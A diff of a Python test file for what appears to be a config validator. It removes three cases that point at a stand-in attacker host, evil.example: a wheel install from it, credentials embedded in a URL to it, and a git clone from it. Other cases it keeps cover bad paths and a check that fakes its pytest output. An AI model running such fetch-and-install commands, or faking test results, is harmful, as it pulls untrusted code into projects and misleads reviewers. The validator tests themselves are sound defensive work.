@@ -40,9 +40,6 @@ def make_tests(suite=None, *, passed: int) -> TestRun:
     [
         ("checks: {tests: pytest --deselect=app/tests/gone.py}", "existing paths"),
         ("checks: {tests: pytest -papp.tests}", "existing paths"),
-        ("setup: ['uv pip install https://evil.example/x.whl']", "evil.example"),
-        ("env: {A: 'http://ada:b@evil.example/'}", "evil.example"),
-        ("setup: ['git clone ssh://evil.example/x']", "evil.example"),
         ("django: {manage: /etc/manage.py}", "not a path in the repository"),
         ("django: {manage: missing.py}", "not in the repository"),
         ("checks: {tests: echo 5 passed}", "must call pytest"),
